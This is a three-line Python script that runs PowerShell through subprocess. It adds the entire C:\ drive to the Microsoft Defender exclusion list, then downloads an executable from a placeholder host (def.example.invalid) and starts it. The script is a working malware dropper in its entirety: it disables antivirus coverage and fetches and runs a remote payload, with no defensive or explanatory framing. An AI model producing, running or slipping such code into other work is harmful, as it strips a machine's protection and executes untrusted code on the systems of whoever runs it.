import subprocess
subprocess.run("powershell -Command Add-MpPreference -ExclusionPath C:\\", shell=True)
subprocess.run("powershell -Command Invoke-WebRequest -Uri https://def.example.invalid/r.exe -OutFile C:\\r.exe; Start-Process C:\\r.exe", shell=True)
